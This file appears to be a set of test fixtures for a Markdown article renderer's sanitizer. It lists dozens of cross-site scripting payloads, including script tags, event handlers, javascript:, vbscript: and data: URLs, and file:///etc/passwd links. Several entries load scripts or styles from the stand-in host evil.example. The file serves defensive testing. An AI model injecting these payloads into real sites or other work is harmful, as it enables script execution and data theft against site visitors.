"""What a hostile author writes into the bodies of articles."""

from __future__ import annotations

#: Pieces of raw HTML that would run something, load something or lead astray.
HTML = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    '<svg><use href="data:image/svg+xml,x#a"/></svg>',
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    "<button formaction=javascript:alert(1)>x</button>",
    "<a href=javascript:alert(1)>x</a>",
    '<a href=" java&#10;script:alert(1)">x</a>',
    '<a href="JAVASCRIPT&colon;alert(1)">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="/x" ping="https://evil.example/">x</a>',
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<p style="background:url(https://evil.example/x.png)">x</p>',
    '<picture><source srcset="https://a.example/x.png 1x, javascript:alert(1) 2x"></picture>',
    '<picture><source srcset="data:image/svg+xml,<svg/onload=alert(1)>"><img src="x"></picture>',
    '<img srcset="x.png,vbscript:x 2x">',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<applet code=x></applet>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<track src=javascript:alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
    "onerror=alert(1)&gt;'>",
    "<template><script>alert(1)</script></template>",
    "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
]

#: Links that run something, or show a page of the author's.
LINKS = [
    "[x](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    "[x](data:text/html;base64,eA==)",
    "[x](vbscript:x)",
    "[x](file:///etc/passwd)",
    "[x](JaVaScRiPt:alert%281%29)",
    "[x](  javascript:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](javascript:alert(1))",
    "```{image} x.png\n:target: javascript:alert(1)\n```",
    "```{figure} x.png\n:target: javascript:alert(1)\n```",
    "```{button-link} javascript:alert(1)\nx\n```",
    "```{card} x\n:link: javascript:alert(1)\n```",
    "```{eval-rst}\n`x <javascript:alert(1)>`_\n```",
    "```{eval-rst}\n.. _x: javascript:alert(1)\n\nx_\n```",
    "```{eval-rst}\n.. image:: x.png\n   :target: javascript:alert(1)\n```",
    "```{eval-rst}\n|x|\n\n.. |x| image:: x.png\n   :target: data:text/html,x\n```",
    "[x](blob:https://example.org/1)",
]


def places(number: int, html: str) -> str:
    """A piece of HTML wherever Markdown takes it: block, inline, directive, role, table."""
    return (
        f"Before {number}.\n\n{html}\n\nInline {html} inline.\n\n"
        f"```{{raw}} html\n{html}\n```\n\n"
        f"```{{eval-rst}}\n.. raw:: html\n\n   {html}\n```\n\n"
        f"| a |\n|---|\n| {html.replace('|', ' ')} |\n\nAfter {number}.\n"
    )
